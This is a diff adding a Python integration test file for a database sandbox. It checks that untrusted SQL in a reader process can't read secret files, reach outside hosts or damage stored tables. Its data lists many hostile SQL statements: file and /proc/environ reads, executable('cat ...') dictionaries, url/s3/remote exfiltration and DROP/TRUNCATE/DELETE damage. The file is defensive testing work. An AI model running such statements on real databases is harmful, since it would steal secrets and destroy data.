@@ -1,0 +1,172 @@
+"""The second wall alone: SQL that nothing has looked at, in the process of a reader, on the real engine."""
+
+import asyncio
+import hashlib
+import os
+from pathlib import Path
+
+import pytest
+
+from switchgear_sinks.sandbox import Readers
+from tests.integration.sinks.api.test_sql_attacks import ATTEMPTS
+from tests.integration.sinks.sandbox.conftest import SECRET, Stranger
+from tests.support.engine import call, store_calls
+
+ESCAPES = """
+SELECT * APPLY(file) FROM (SELECT '{secret}' AS x)
+SELECT arrayMap(file, ['{secret}'])
+SELECT arrayMap(`file`, ['{secret}'])
+SELECT * APPLY(x -> file(x)) FROM (SELECT '{secret}' AS x)
+SELECT COLUMNS('x') APPLY(file) FROM (SELECT '{secret}' AS x)
+SELECT * EXCEPT (y) APPLY(file) FROM (SELECT '{secret}' AS x, 1 AS y)
+SELECT file('/proc/self/root{secret}')
+SELECT file('/proc/self/cwd/../../../../../../../../../..{secret}')
+SELECT * FROM file('{secret}', RawBLOB)
+SELECT * FROM file('{folder}/*', LineAsString)
+SELECT * FROM filesystem('{folder}') WHERE length(content) > 0
+SELECT content FROM filesystem('{secret}')
+CREATE TABLE evil_file (s String) ENGINE = File(LineAsString, '{secret}'); SELECT * FROM evil_file
+CREATE TABLE evil_out (s String) ENGINE = File(LineAsString, '{folder}/written'); INSERT INTO evil_out VALUES ('x')
+CREATE TABLE evil_url (s String) ENGINE = URL('{url}', LineAsString); SELECT * FROM evil_url
+CREATE TABLE evil_disk (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '{folder}/disk/')
+CREATE TABLE evil_web (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = '{url}/')
+CREATE DATABASE evil_files ENGINE = Filesystem('{folder}'); SELECT * FROM evil_files.`secret.txt`
+CREATE DATABASE evil_sqlite ENGINE = SQLite('{folder}/written.db'); SHOW TABLES FROM evil_sqlite
+CREATE DATABASE evil_mysql ENGINE = MySQL('{address}', 'd', 'u', 'p'); SHOW TABLES FROM evil_mysql
+CREATE DICTIONARY evil_1 (a String) PRIMARY KEY a SOURCE(FILE(path '{secret}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_1
+CREATE DICTIONARY evil_2 (a String) PRIMARY KEY a SOURCE(EXECUTABLE(command 'cat {secret}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_2
+CREATE DICTIONARY evil_3 (a String) PRIMARY KEY a SOURCE(HTTP(url '{url}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_3
+ATTACH TABLE evil_from FROM '{folder}' (s String) ENGINE = File(LineAsString); SELECT * FROM evil_from
+INSERT INTO FUNCTION file('{folder}/written', LineAsString) SELECT 'x'
+INSERT INTO FUNCTION url('{url}', LineAsString, 's String') SELECT 'x'
+INSERT INTO FUNCTION remote('{address}', system.one) SELECT 1
+BACKUP TABLE tool_metrics TO File('{folder}/backup')
+BACKUP TABLE tool_metrics TO S3('{url}/bucket/', 'id', 'secret')
+RESTORE TABLE tool_metrics AS evil_restored FROM File('{folder}')
+CREATE FUNCTION evil_function AS (x) -> file(x); SELECT evil_function('{secret}')
+SELECT * FROM executable('cat {secret}', LineAsString, 's String')
+SELECT * FROM s3('file://{secret}', LineAsString)
+SELECT * FROM url('file://{secret}', LineAsString, 's String')
+SELECT * FROM python(open('{secret}'))
+"""
+DAMAGE = """
+DROP TABLE tool_metrics SYNC
+TRUNCATE TABLE tool_errors
+ALTER TABLE tool_counts_1m DELETE WHERE 1 SETTINGS mutations_sync = 2
+ALTER TABLE tool_latency_15m UPDATE calls = 0 WHERE 1 SETTINGS mutations_sync = 2
+ALTER TABLE tool_counts_1m FREEZE
+ALTER TABLE tool_latency_15m DETACH PARTITION ID 'all'
+ALTER TABLE tool_slow_calls DROP PARTITION ID '202611'
+OPTIMIZE TABLE tool_counts_1m FINAL
+INSERT INTO tool_slow_calls (tool_name, status) VALUES ('x', 'success')
+INSERT INTO FUNCTION file('{store}/store/written', LineAsString) SELECT 'x'
+SELECT 1 INTO OUTFILE '{store}/metadata/written'
+CREATE DATABASE evil_database
+SYSTEM START MERGES
+"""
+
+
+def told(attempt: str, names: dict[str, str]) -> list[str]:
+    return [part.strip() for part in attempt.format(**names).split("; ")]
+
+
+@pytest.mark.parametrize("attempt", [*ESCAPES.strip().splitlines(), *ATTEMPTS])
+def test_an_attempt_opens_no_file_and_no_socket_outside(stranger, world, attempt):
+    assert SECRET.encode() not in stranger.ask(*told(attempt, world.names))
+    assert world.files() == ["secret.txt"]
+    assert not world.was_reached()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/etc/passwd",
+        "/etc/hostname",
+        "/proc/1/environ",
+        "/proc/{parent}/environ",
+        "/proc/{parent}/mem",
+        "/proc/{parent}/maps",
+        "/proc/{parent}/cwd/pyproject.toml",
+        "{store}/switchgear.lock",
+        "{store}/status",
+        "{store}/metadata/switchgear.sql",
+        "{project}/pyproject.toml",
+    ],
+)
+def test_a_file_that_is_there_can_not_be_read(stranger, world, path):
+    there = path.format(parent=os.getpid(), store=world.store, project=Path.cwd())
+    said = stranger.ask(f"SELECT length(file('{there}'))", f"SELECT count() FROM file('{there}', RawBLOB)")
+    assert said.count(b"DB::") >= 2, said
+    assert b"ermission denied" in said or b"not permitted" in said, said
+
+
+def test_its_own_environment_holds_no_secret(engine, monkeypatch):
+    monkeypatch.setenv("SWITCHGEAR_CLICKHOUSE_URL", f"http://user:{SECRET}@host/")
+    readers = Readers(engine.folder, engine.database, max_seconds=5)
+    stranger = Stranger(readers)
+    try:
+        said = stranger.ask("SELECT * FROM file('/proc/self/environ', RawBLOB)")
+    finally:
+        stranger.leave()
+        readers.close()
+    assert b"TMPDIR=" in said
+    assert SECRET.encode() not in said
+
+
+def test_a_link_in_its_own_folder_does_not_lead_out(stranger, world):
+    engine = stranger.client._process.engine
+    (engine / "link").symlink_to(world.names["secret"])
+    (engine / "links").symlink_to(world.folder)
+    said = stranger.ask(f"SELECT file('{engine}/link')", f"SELECT file('{engine}/links/secret.txt')")
+    assert SECRET.encode() not in said
+    assert b"denied" in said
+
+
+def test_the_rows_of_the_store_can_not_be_damaged(engine, world):
+    asyncio.run(store_calls(engine, [call("kept"), call("kept", "error", execution_time_ms=9000.0)]))
+    asyncio.run(engine.command("SYSTEM STOP MERGES"))
+    tables = asyncio.run(engine.query("SHOW TABLES")).result_rows
+    before = hashes(engine.folder)
+    readers = Readers(engine.folder, engine.database, max_seconds=30)
+    stranger = Stranger(readers)
+    try:
+        assert stranger.ask("SELECT count() > 0 FROM tool_metrics") == b"1\n", "it reads them"
+        for attempt in DAMAGE.strip().splitlines():
+            stranger.ask(*told(attempt, world.names))
+    finally:
+        stranger.leave()
+        readers.close()
+    assert hashes(engine.folder) == before
+    assert asyncio.run(engine.query("SHOW TABLES")).result_rows == tables
+    asyncio.run(engine.command("SYSTEM START MERGES"))
+
+
+def hashes(folder: Path) -> dict[str, str]:
+    return {
+        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in sorted(folder.rglob("*"))
+        if path.is_file() and not path.is_relative_to(folder / "readers")
+    }
+
+
+@pytest.mark.parametrize(
+    ("attempt", "gone"),
+    [
+        ("SELECT * APPLY(file) FROM (SELECT '{secret}' AS x)", "read"),
+        ("SELECT * FROM file('{secret}', LineAsString)", "read"),
+        ("SELECT 1 INTO OUTFILE '{folder}/written'", "written"),
+        ("SELECT * FROM url('{url}', LineAsString, 's String') SETTINGS http_max_tries = 1", "reached"),
+    ],
+)
+def test_without_the_wall_the_same_attempts_succeed(engine, world, attempt, gone):
+    """Else the tests above would prove nothing."""
+    readers = Readers(engine.folder, engine.database, max_seconds=2, walled=False)
+    stranger = Stranger(readers)
+    try:
+        said = stranger.ask(attempt.format(**world.names))
+    finally:
+        stranger.leave()
+        readers.close()
+    written = world.folder / "written"
+    assert {"read": SECRET.encode() in said, "written": written.exists(), "reached": world.was_reached()}[gone]
+    written.unlink(missing_ok=True)
